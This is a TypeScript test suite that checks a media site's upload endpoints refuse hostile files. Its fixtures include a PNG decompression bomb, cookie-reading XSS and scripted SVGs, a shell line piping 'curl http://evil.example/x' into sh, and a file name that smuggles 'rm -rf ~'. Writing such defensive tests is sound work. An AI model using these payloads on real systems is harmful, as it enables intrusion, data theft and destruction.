import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  createTestApp,
  listFiles,
  type MultipartFile,
  pngImage,
  signedInAdmin,
  signedInViewer,
  type TestApp,
  type TestClient,
} from '../harness.js';
import { makeClip, mediaEnv, tusUpload } from '../media-kit.js';

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A valid, tiny PNG whose header declares width x height pixels: a decompression bomb in 100 bytes. */
function bombPng(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', zlib.deflateSync(Buffer.alloc(64))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

const HTML = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
const JS = Buffer.from('fetch("/api/user/me").then(r=>r.text()).then(alert)');
const SVG_SCRIPT = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>',
);
const SVG_HANDLER = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)"><rect width="10" height="10"/></svg>',
);
const SVG_LINK = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><rect width="10" height="10"/></a></svg>',
);
// (A line break inside an RFC 5987 file name stalls busboy's parser before we see the part: not sent here.)
const HOSTILE_NAMES = ['a\u0000b.png', 'quote".png', '"; rm -rf ~; ".mp4', 'tab\there.png'];

/**
 * Hostile files at every upload: refused with 4xx, nothing stored (database rows and media folder unchanged),
 * and the server still answers afterwards.
 */
describe('hostile uploads', () => {
  let t: TestApp;
  let admin: TestClient;
  let viewer: TestClient;
  let movieId: number;
  let postId: number;
  let clip: Buffer;
  let clips: string;

  beforeAll(async () => {
    t = await createTestApp({ ...mediaEnv(), WORKER_IN_PROCESS: 'false' });
    admin = await signedInAdmin(t.app);
    viewer = await signedInViewer(t.app, '+998901234500');
    movieId = (await admin.post('/api/movie/create')).json().movie_id;
    const post = await admin.post('/api/posts', { title: 'A post', body: '<p>x</p>', status: 'draft' });
    expect(post.statusCode, post.body).toBe(201);
    postId = post.json().post_id;
    clips = fs.mkdtempSync(path.join(os.tmpdir(), 'salomtv-hostile-'));
    clip = await makeClip(clips, 'ok', { seconds: 1, width: 160, height: 90 });
  });
  afterAll(async () => {
    await t.close();
    fs.rmSync(clips, { recursive: true, force: true });
  });

  async function state() {
    const db = t.app.container.database.db;
    const count = async (
      table: 'media_assets' | 'media_jobs' | 'languages' | 'posts' | 'subtitles' | 'audio_tracks',
    ) => Number((await db.selectFrom(table).select(db.fn.countAll().as('n')).executeTakeFirstOrThrow()).n);
    const titles = await db.selectFrom('titles').select(['banner', 'thumbnail', 'video_asset_id']).execute();
    const users = await db.selectFrom('users').select(['avatar']).execute();
    const posts = await db.selectFrom('posts').select(['cover']).execute();
    const flags = await db.selectFrom('languages').select(['lang_id', 'flag']).orderBy('lang_id').execute();
    return {
      files: listFiles(path.join(t.dataDir, 'media')),
      assets: await count('media_assets'),
      jobs: await count('media_jobs'),
      languages: await count('languages'),
      posts: await count('posts'),
      subtitles: await count('subtitles'),
      audioTracks: await count('audio_tracks'),
      flags,
      titles,
      users,
      covers: posts,
    };
  }

  async function expectRefused(label: string, send: () => Promise<LightMyRequestResponse>) {
    const before = await state();
    const response = await send();
    expect([400, 413, 415], `${label}: ${response.statusCode} ${response.body}`).toContain(
      response.statusCode,
    );
    expect(response.json().error.code, label).toMatch(/validation_failed|unsupported_type|too_large/);
    expect(await state(), label).toEqual(before);
    expect((await t.app.inject({ url: '/api/health' })).statusCode, label).toBe(200);
  }

  const file = (data: Buffer, filename: string, contentType: string): MultipartFile => ({
    filename,
    contentType,
    data,
  });

  it('refuses an .mp4 that is HTML, a shell script or JavaScript, by form and by tus', async () => {
    for (const [name, data] of [
      ['page.mp4', HTML],
      ['run.mp4', SCRIPT],
      ['steal.mp4', JS],
    ] as const) {
      for (const url of ['/api/movie/add', '/api/movie/trailer']) {
        await expectRefused(`${url} ${name}`, () =>
          admin.postForm(url, { movie_id: String(movieId), file: file(data, name, 'video/mp4') }),
        );
      }
      const before = await state();
      const { last } = await tusUpload(admin, data, {
        movie_id: String(movieId),
        kind: 'video',
        filename: name,
      });
      expect(last?.statusCode, `tus ${name}`).toBe(415);
      expect(await state(), `tus ${name}`).toEqual(before);
      expect(listFiles(path.join(t.dataDir, 'tmp')).filter((f) => f.includes('tus/'))).toEqual([]);
    }
  });

  it('refuses a 50,000 x 50,000 image and scripted SVGs at every image upload', async () => {
    const bomb = bombPng(50_000, 50_000);
    const bad: [string, Buffer, string][] = [
      ['bomb.png', bomb, 'image/png'],
      ['script.svg', SVG_SCRIPT, 'image/svg+xml'],
      ['handler.svg', SVG_HANDLER, 'image/svg+xml'],
      ['link.svg', SVG_LINK, 'image/svg+xml'],
      ['page.png', HTML, 'image/png'],
    ];
    for (const [name, data, type] of bad) {
      await expectRefused(`avatar ${name}`, () =>
        viewer.postForm('/api/user/avatar', { avatar: file(data, name, type) }),
      );
      await expectRefused(`banner ${name}`, () =>
        admin.postForm('/api/movie/banner', { movie_id: String(movieId), file: file(data, name, type) }),
      );
      await expectRefused(`thumbnail ${name}`, () =>
        admin.postForm('/api/movie/thumbnail', { movie_id: String(movieId), file: file(data, name, type) }),
      );
      await expectRefused(`post cover ${name}`, () =>
        admin.postForm(`/api/posts/${postId}/cover`, { cover: file(data, name, type) }),
      );
      await expectRefused(`flag ${name}`, () =>
        admin.postForm('/api/language', {
          language_title: 'Bomb',
          keyword: 'Bo',
          flag: file(data, name, type),
        }),
      );
    }
  });

  it("refuses a subtitle that is a page, a script or binary, and a bad flag on a language's update", async () => {
    for (const [name, data] of [
      ['page.vtt', HTML],
      ['run.srt', SCRIPT],
      ['steal.vtt', JS],
      ['picture.vtt', bombPng(10, 10)],
    ] as const) {
      await expectRefused(`subtitle ${name}`, () =>
        admin.postForm('/api/movie/subtitle', {
          movie_id: String(movieId),
          language: 'en',
          file: file(data, name, 'text/vtt'),
        }),
      );
    }
    const language = await admin.postForm('/api/language', { language_title: 'Flagged', keyword: 'Fl' });
    expect(language.statusCode, language.body).toBe(201);
    const fields = { lang_id: String(language.json().lang_id), language_title: 'Flagged', keyword: 'Fl' };
    for (const [name, data, type] of [
      ['bomb.png', bombPng(50_000, 50_000), 'image/png'],
      ['script.svg', SVG_SCRIPT, 'image/svg+xml'],
      ['page.png', HTML, 'image/png'],
    ] as const) {
      await expectRefused(`flag update ${name}`, () =>
        admin.postForm('/api/language/update', { ...fields, flag: file(data, name, type) }),
      );
    }
  });

  /** A form whose file name travels RFC 5987-encoded (`filename*=`), so the server sees it exactly. */
  function encodedForm(
    fields: Record<string, string>,
    field: string,
    name: string,
    data: Buffer,
    type: string,
  ) {
    const boundary = '----hostile4f2c';
    const parts = Object.entries(fields).map(
      ([key, value]) => `--${boundary}\r\nContent-Disposition: form-data; name="${key}"\r\n\r\n${value}\r\n`,
    );
    return {
      headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
      payload: Buffer.concat([
        Buffer.from(parts.join('')),
        Buffer.from(
          `--${boundary}\r\nContent-Disposition: form-data; name="${field}"; filename*=UTF-8''${encodeURIComponent(name)}\r\nContent-Type: ${type}\r\n\r\n`,
        ),
        data,
        Buffer.from(`\r\n--${boundary}--\r\n`),
      ]),
    };
  }

  it('refuses file names with NUL, quotes or control characters, even with good content', async () => {
    const png = await pngImage(20, 20);
    for (const name of HOSTILE_NAMES) {
      await expectRefused(`avatar ${JSON.stringify(name)}`, () =>
        viewer.request('POST', '/api/user/avatar', {
          body: encodedForm({}, 'avatar', name, png, 'image/png'),
        }),
      );
      await expectRefused(`post cover ${JSON.stringify(name)}`, () =>
        admin.request('POST', `/api/posts/${postId}/cover`, {
          body: encodedForm({}, 'cover', name, png, 'image/png'),
        }),
      );
      await expectRefused(`video ${JSON.stringify(name)}`, () =>
        admin.request('POST', '/api/movie/add', {
          body: encodedForm({ movie_id: String(movieId) }, 'file', name, clip, 'video/mp4'),
        }),
      );
      const before = await state();
      const { create } = await tusUpload(admin, clip, {
        movie_id: String(movieId),
        kind: 'video',
        filename: name,
      });
      expect(create.statusCode, `tus ${JSON.stringify(name)}`).toBe(400);
      expect(await state()).toEqual(before);
    }
    // An ordinary name with an apostrophe is fine.
    const fine = await viewer.request('POST', '/api/user/avatar', {
      body: encodedForm({}, 'avatar', "Anna's photo (1).png", png, 'image/png'),
    });
    expect(fine.statusCode, fine.body).toBe(200);
  });

  it('refuses a sound track that is a page, a script, a picture or a video, by form and by tus', async () => {
    // A title with a video (not yet converted: its length is known from the upload's check).
    const dubbed = (await admin.post('/api/movie/create')).json().movie_id as number;
    const video = await admin.postForm('/api/movie/add', {
      movie_id: String(dubbed),
      file: file(clip, 'ok.mp4', 'video/mp4'),
    });
    expect(video.statusCode, video.body).toBe(200);
    for (const [name, data] of [
      ['page.m4a', HTML],
      ['run.mp3', SCRIPT],
      ['steal.aac', JS],
      ['picture.flac', bombPng(10, 10)],
      ['film.m4a', clip],
    ] as const) {
      await expectRefused(`audio ${name}`, () =>
        admin.postForm('/api/movie/audio', {
          movie_id: String(dubbed),
          language: 'uz',
          file: file(data, name, 'audio/mp4'),
        }),
      );
      const before = await state();
      const { last } = await tusUpload(admin, data, {
        movie_id: String(dubbed),
        kind: 'audio',
        language: 'uz',
        filename: name,
      });
      expect(last?.statusCode, `tus ${name}`).toBe(415);
      expect(await state(), `tus ${name}`).toEqual(before);
    }
  });
});
